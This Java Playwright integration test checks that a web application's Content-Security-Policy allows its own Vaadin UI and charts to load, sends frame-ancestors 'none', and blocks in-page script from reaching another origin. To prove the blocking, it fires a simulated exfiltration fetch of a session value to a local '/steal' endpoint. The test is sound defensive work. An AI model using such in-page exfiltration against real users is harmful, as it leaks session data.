package com.voiceledger.browser;

import static org.assertj.core.api.Assertions.assertThat;

import com.microsoft.playwright.Browser;
import com.microsoft.playwright.ConsoleMessage;
import com.microsoft.playwright.Page;
import com.microsoft.playwright.Response;
import com.sun.net.httpserver.HttpServer;
import com.voiceledger.customer.Customer;
import com.voiceledger.ingestion.VapiIngest;
import com.voiceledger.security.Role;
import com.voiceledger.security.UserService;
import com.voiceledger.support.Chromium;
import com.voiceledger.support.IntegrationTest;
import com.voiceledger.support.Samples;
import com.voiceledger.support.TestFixtures;
import java.net.InetSocketAddress;
import java.nio.charset.StandardCharsets;
import java.util.List;
import java.util.Map;
import java.util.UUID;
import java.util.concurrent.CopyOnWriteArrayList;
import org.junit.jupiter.api.AfterAll;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.Test;
import org.springframework.beans.factory.annotation.Autowired;
import org.springframework.boot.test.web.server.LocalServerPort;

/**
 * The Content-Security-Policy in a real Chromium: Vaadin and the charts work under it (no violation
 * reported), while script running in the page (an injected one, say) cannot send data to another
 * origin, and no other site can frame the application.
 */
@IntegrationTest
class SecurityHeadersBrowserIT {

    static Chromium chromium;
    static Browser browser;

    @LocalServerPort
    int port;
    @Autowired
    TestFixtures fixtures;
    @Autowired
    UserService users;
    @Autowired
    VapiIngest ingest;

    @BeforeAll
    static void startBrowser() {
        chromium = Chromium.launch();
        browser = chromium.browser();
    }

    @AfterAll
    static void stopBrowser() {
        if (chromium != null) {
            chromium.close();
        }
    }

    @Test
    void vaadinAndTheChartsRunUnderThePolicyWhileScriptCannotSendDataElsewhere() throws Exception {
        Samples samples = Samples.fresh();
        String login = "csp-" + UUID.randomUUID().toString().substring(0, 8);
        Customer acme = fixtures.customer(samples.id(Samples.ACME));
        users.create(login, "Cy Policy", "password-123", Role.CUSTOMER_ADMIN, acme.id());
        ingest.ingest("vapi", "application/json", Map.of(), samples.text(Samples.EOCR).getBytes(StandardCharsets.UTF_8));
        List<String> received = new CopyOnWriteArrayList<>();
        HttpServer elsewhere = HttpServer.create(new InetSocketAddress("127.0.0.1", 0), 0);
        elsewhere.createContext("/", exchange -> {
            received.add(exchange.getRequestURI().toString());
            exchange.sendResponseHeaders(204, -1);
            exchange.close();
        });
        elsewhere.start();
        Page page = browser.newContext(new Browser.NewContextOptions().setViewportSize(1280, 800)).newPage();
        try {
            List<String> violations = new CopyOnWriteArrayList<>();
            page.onConsoleMessage((ConsoleMessage message) -> {
                if (message.text().contains("Content Security Policy")) {
                    violations.add(message.text());
                }
            });
            // the application's own resources all load: the browser reports the ones that do not (a missing
            // tab icon was a 404 on every page), including its own requests that page.onResponse never sees
            List<String> failed = new CopyOnWriteArrayList<>();
            page.onConsoleMessage((ConsoleMessage message) -> {
                if (message.text().startsWith("Failed to load resource")
                        && message.location().startsWith("http://localhost:" + port)) {
                    failed.add(message.text() + " " + message.location());
                }
            });
            page.setDefaultTimeout(30_000);
            Response loginPage = page.navigate("http://localhost:" + port + "/login");
            assertThat(loginPage.headerValue("content-security-policy")).contains("frame-ancestors 'none'");
            Chromium.submitLogin(page, login, "password-123");
            page.waitForURL("**/dashboard");
            page.locator("vl-chart svg.apexcharts-svg").first().waitFor();
            page.navigate("http://localhost:" + port + "/calls");
            page.locator("vaadin-grid").getByText("customer-ended-call").click();
            page.getByText("Cost components").waitFor();
            assertThat(violations).as("what the policy blocked of the application itself").isEmpty();
            assertThat(failed).as("the application's own requests that failed").isEmpty();

            Object outcome = page.evaluate("url => fetch(url).then(() => 'sent', () => 'blocked')",
                    "http://127.0.0.1:" + elsewhere.getAddress().getPort() + "/steal?session=" + login);

            assertThat(outcome).isEqualTo("blocked");
            assertThat(received).as("what reached the other origin").isEmpty();
            assertThat(violations).anyMatch(text -> text.contains("connect-src"));
        } finally {
            page.context().close();
            elsewhere.stop(0);
        }
    }
}
